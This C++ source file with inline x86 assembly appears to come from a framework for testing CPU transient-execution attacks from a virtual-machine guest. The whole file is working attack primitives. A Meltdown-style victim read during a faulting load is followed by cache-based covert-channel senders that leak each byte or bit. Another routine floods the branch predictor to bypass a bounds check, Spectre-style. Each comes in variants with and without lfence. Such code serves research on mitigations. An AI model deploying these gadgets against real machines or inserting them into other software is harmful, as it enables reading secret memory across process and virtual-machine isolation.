// SPDX-License-Identifier: MIT
// Meltdown as published: a load faults, and until the fault is raised the instructions after it run
// on whatever the load forwarded. A load of a line that is not in the nearest cache forwards 0 and
// fetches the line, so 0 is sent somewhere else: nothing is taken for it.
#include "guest/attacks/transient_send.h"

#include "guest/attacks/covert_channel.h"

extern "C" {
attacks::TransientSend send_byte, send_byte_late, send_bit, send_bit_late;
attacks::CheckedSend checked_send_byte, checked_send_byte_late, checked_send_bit,
    checked_send_bit_late;
}

static_assert(attacks::CovertChannel::bit_stride == 8256 &&
              attacks::CovertChannel::value_stride == 4096);

// The victim is read at once, which fetches its line, and again when the second place of the slow
// pointer has been read: if that took a trip to memory, the line has come by then, and there is a
// whole trip left to send in.
//
// In front of the bounds check are more branches that are never taken than a predictor remembers:
// what it makes of the check then depends on earlier checks alone.
asm(R"(
    .macro READ_VICTIM
    movzbl (%rdx), %eax
    andl $0, %edi
    movzbl (%rdx,%rdi), %eax
    .endm

    .macro SEND_BYTE
    testl %eax, %eax
    cmovzq %r8, %r10
    .irp bit, 0, 1, 2, 3, 4, 5, 6, 7
    movl %eax, %r9d
    andl $(1 << \bit), %r9d
    shll $(12 - \bit), %r9d
    movzbl \bit * 8256(%r10,%r9), %r9d
    .endr
    .endm

    .macro SEND_BIT
    testl %eax, %eax
    cmovzq %r8, %r10
    shrl %cl, %eax
    andl $1, %eax
    shll $12, %eax
    movzbl (%r10,%rax), %eax
    .endm

    .macro FUNCTION name
    .balign 64
    .globl \name
    .type \name, @function
\name:
    .endm

    .macro TRANSIENT_SEND name, send, barrier
    FUNCTION \name
    movq %rcx, %r10
    movl %r9d, %ecx
    movq (%rdi), %rdi
    movq (%rdi), %rdi
    movq (%rdi), %r11
    movzbl (%rsi), %eax
    READ_VICTIM
    \barrier
    \send
    ret
    .size \name, . - \name
    .endm

    .macro CHECKED_SEND name, send, barrier
    FUNCTION \name
    movq %rcx, %r10
    movl %r9d, %ecx
    clc
    .rept 64
    jc 1f
    .endr
    movq (%rdi), %rdi
    movq (%rdi), %rdi
    movq (%rdi), %r11
    cmpq %r11, %rsi
    jae 1f
    READ_VICTIM
    \barrier
    \send
1:  ret
    .size \name, . - \name
    .endm

    .pushsection .text
    TRANSIENT_SEND send_byte, SEND_BYTE
    TRANSIENT_SEND send_byte_late, SEND_BYTE, lfence
    TRANSIENT_SEND send_bit, SEND_BIT
    TRANSIENT_SEND send_bit_late, SEND_BIT, lfence
    CHECKED_SEND checked_send_byte, SEND_BYTE
    CHECKED_SEND checked_send_byte_late, SEND_BYTE, lfence
    CHECKED_SEND checked_send_bit, SEND_BIT
    CHECKED_SEND checked_send_bit_late, SEND_BIT, lfence
    .globl transient_send_end
transient_send_end:
    ret
    .popsection
)");

namespace attacks {

TransientSend* transient_send(Portion portion, Sending sending) {
    if (portion == Portion::Byte) {
        return sending == Sending::Late ? &send_byte_late : &send_byte;
    }
    return sending == Sending::Late ? &send_bit_late : &send_bit;
}

CheckedSend* checked_send(Portion portion, Sending sending) {
    if (portion == Portion::Byte) {
        return sending == Sending::Late ? &checked_send_byte_late : &checked_send_byte;
    }
    return sending == Sending::Late ? &checked_send_bit_late : &checked_send_bit;
}

}  // namespace attacks
